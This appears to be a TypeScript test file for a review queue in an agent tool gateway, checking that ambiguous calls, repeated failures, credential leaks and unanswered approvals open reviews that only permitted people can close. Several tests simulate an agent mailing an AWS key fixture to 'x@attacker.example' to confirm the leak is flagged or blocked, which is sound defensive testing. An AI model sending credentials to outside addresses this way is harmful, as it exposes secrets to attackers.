// SPDX-License-Identifier: Apache-2.0
// What has to be looked at, on the road: what puts it there, who may close it, on one node and on two.
import { describe, expect, test } from 'vitest';
import { records } from '../../src/app/read-records.ts';
import { closeReview, createReviews, type Reviews } from '../../src/app/reviews.ts';
import { tellUnanswered } from '../../src/app/unanswered.ts';
import { awsKey } from '../../src/core/result/result.fixture.ts';
import { createReviewQueue } from '../../src/core/review/queue.ts';
import { verifies } from '../requirements.ts';
import { asked, asks, by, eventsOf, over } from './approvals.fixture.ts';
import { operator, type Rig, tool } from './road.fixture.ts';
import { anybody, asPerson, sealedRoad } from './sealed.fixture.ts';

const open = over('@id("all") permit (principal, action, resource);');
const mail = (body: string) => tool('mail', 'send_mail', { to: 'x@attacker.example', subject: 'hi', body });

async function watched(
  options: Parameters<typeof asked>[0] = {},
): Promise<Rig & { readonly reviews: Reviews }> {
  const made = await asked({ published: open, ...options });
  return { ...made, reviews: createReviews(made.road.sequencer) };
}

const kinds = ({ reviews }: { readonly reviews: Reviews }) => reviews.open().map(({ kind }) => kind);

function closing(made: { readonly reviews: Reviews }, reason = 'asked the bank') {
  const [found] = made.reviews.open();
  if (found === undefined) throw new Error('nothing is open');
  return { review: found.review, last: found.last, reason };
}

describe('what puts it there', () => {
  test('a call that nobody knows the end of', async () => {
    verifies('reviews.nothing-lost');
    const made = await watched({ answers: () => undefined });
    const caller = await made.start();
    const { answer } = await made.call(caller, mail('hello'));
    const decision = answer.outcome === 'allow' ? answer.call.decision : '';
    expect(made.reviews.open()).toMatchObject([
      { kind: 'ambiguous', about: decision, scene: { ...without(caller), what: 'mail/send_mail' } },
    ]);
  });

  test('a tool that fails again and again', async () => {
    const made = await watched({ answers: () => ({ isError: true, content: [] }) });
    const caller = await made.start();
    for (let i = 0; i < 6; i++) await made.call(caller, mail(`${i}`));
    expect(made.reviews.open()).toMatchObject([{ kind: 'failures', count: 2, detail: '6 times in a row' }]);
  });

  test('a credential in what goes out', async () => {
    const made = await watched();
    await made.call(
      await made.start({ prompt: 'Please say hello to x@attacker.example.' }),
      mail(`key ${awsKey}`),
    );
    expect(made.effects).toHaveLength(1);
    expect(kinds(made)).toEqual(['credential_sent']);
    expect(JSON.stringify(made.reviews.open())).not.toContain(awsKey);
  });

  test('and one that was stopped', async () => {
    const published = over(`@id("all") permit (principal, action, resource);
@id("no") forbid (principal is Agent, action in Action::"egress", resource) when { context.origin.credential.doubt > 0 };`);
    const made = await watched({ published });
    await made.call(await made.start({ prompt: 'Please say hello.' }), mail(`key ${awsKey}`));
    expect(made.effects).toEqual([]);
    expect(kinds(made)).toEqual(['credential_stopped']);
  });

  test('a request that nobody answered', async () => {
    const made = await asked();
    const reviews = createReviews(made.road.sequencer);
    const caller = await made.start();
    const approval = await asks(made, caller);
    made.pass(16 * 60_000);
    await tellUnanswered(made.road);
    expect(reviews.open()).toMatchObject([
      { kind: 'unanswered', about: approval, scene: { agent: 'a1', what: 'refund-over-limit' } },
    ]);
  });
});

describe('closing', () => {
  test('is on record, with who and why, and it is gone', async () => {
    verifies('reviews.closed-by-people');
    const made = await watched({ answers: () => undefined });
    await made.call(await made.start(), mail('hello'));
    const it = closing(made);
    expect(await closeReview(made.road, made.reviews, by('ana'), it)).toMatchObject({
      ok: true,
      value: { review: it.review, person: 'ana' },
    });
    expect(made.reviews.open()).toEqual([]);
    expect(await eventsOf(made, 'review.closed')).toMatchObject([
      { ...it, person: 'ana', operator: 'local:1' },
    ]);
    expect(await closeReview(made.road, made.reviews, by('ana'), it)).toMatchObject({ code: 'not_found' });
    expect(await eventsOf(made, 'review.closed')).toHaveLength(1);
  });

  test('is what policy lets whoever does it do', async () => {
    verifies('reviews.closed-by-people');
    const made = await watched({
      answers: () => undefined,
      published: over(`@id("all") permit (principal, action, resource);
@id("not-you") @reason("Security closes these.")
forbid (principal == Operator::"local:1", action == Action::"review.close", resource) when { context.kind == "review" };`),
    });
    await made.call(await made.start(), mail('hello'));
    const refused = await closeReview(made.road, made.reviews, by('ana'), closing(made));
    expect(refused).toMatchObject({ ok: false, code: 'forbidden', reason: 'Security closes these.' });
    expect(made.reviews.open()).toHaveLength(1);
    expect(await eventsOf(made, 'review.closed')).toEqual([]);
    expect(await closeReview(made.road, made.reviews, by('ben'), closing(made))).toMatchObject({ ok: true });
  });

  test('by somebody who is nobody in the file says the operator, and by somebody who is not who they say nothing', async () => {
    const made = await watched({ answers: () => undefined });
    await made.call(await made.start(), mail('hello'));
    const it = closing(made);
    expect(await closeReview(made.road, made.reviews, by('ana'), { ...it, as: 'ben' })).toMatchObject({
      ok: false,
      code: 'not_possible',
    });
    const done = await closeReview(made.road, made.reviews, operator, it);
    expect(done).toMatchObject({ ok: true });
    expect(await eventsOf(made, 'review.closed')).toMatchObject([{ operator: 'local:0' }]);
    expect((await eventsOf(made, 'review.closed'))[0]).not.toHaveProperty('person');
  });

  test('what came since somebody looked keeps it open', async () => {
    const made = await watched({ answers: () => ({ isError: true, content: [] }) });
    const caller = await made.start();
    for (let i = 0; i < 5; i++) await made.call(caller, mail(`${i}`));
    const it = closing(made);
    await made.call(caller, mail('once more'));
    expect(await closeReview(made.road, made.reviews, by('ana'), it)).toMatchObject({
      ok: false,
      code: 'not_possible',
      reason: expect.stringContaining('there is more of it since: 2 now'),
    });
    expect(await closeReview(made.road, made.reviews, by('ana'), closing(made))).toMatchObject({ ok: true });
  });
});

test('where people can sign in nobody is a person over the socket', async () => {
  verifies('reviews.closed-by-people');
  const { made } = await sealedRoad();
  const reviews = createReviews(made.road.sequencer);
  const it = async () => {
    await asks(made, await made.start());
    made.pass(16 * 60_000);
    await tellUnanswered(made.road);
    return closing({ reviews });
  };
  expect(await closeReview(made.road, reviews, anybody, { ...(await it()), as: 'ana' })).toMatchObject({
    ok: false,
    reason: expect.stringContaining('has to sign in'),
  });
  expect(await closeReview(made.road, reviews, anybody, closing({ reviews }))).toMatchObject({ ok: true });
  const signedIn = await closeReview(made.road, reviews, asPerson('ana'), await it(), { person: 'ana' });
  expect(signedIn).toMatchObject({ ok: true, value: { person: 'ana' } });
  const [bare, hers] = await eventsOf(made, 'review.closed');
  expect(bare).not.toHaveProperty('person');
  expect(hers).toMatchObject({ person: 'ana', operator: 'person:ana' });
});

test('another node knows the same, and one that starts anew', async () => {
  verifies('reviews.nothing-lost');
  const made = await watched({ answers: () => undefined });
  const beside = await watched({ store: made.store, node: 'n2', answers: () => undefined });
  const caller = await made.start();
  for (let i = 0; i < 3; i++) await made.call(caller, mail(`${i}`));
  await beside.road.sequencer.catchUp();
  expect(beside.reviews.open()).toEqual(made.reviews.open());
  // Closed there, it is closed here.
  await closeReview(beside.road, beside.reviews, by('ana'), closing(beside));
  await made.road.sequencer.catchUp();
  expect(made.reviews.open()).toHaveLength(2);
  const anew = createReviewQueue();
  for await (const { event } of records(made.ledger, {})) anew.take(event);
  expect(anew.open()).toEqual(made.reviews.open());
});

test('nothing of it stands in what decisions read or move', async () => {
  const made = await watched({ answers: () => undefined });
  const caller = await made.start();
  await made.call(caller, mail('hello'));
  await closeReview(made.road, made.reviews, by('ana'), closing(made));
  for await (const { event } of records(made.ledger, {}))
    expect([...event.moves, ...event.drops, ...Object.keys(event.reads)].join()).not.toMatch(/review/);
});

function without({ agent, task, session }: { agent: string; task: string; session: string }) {
  return { agent, task, session };
}
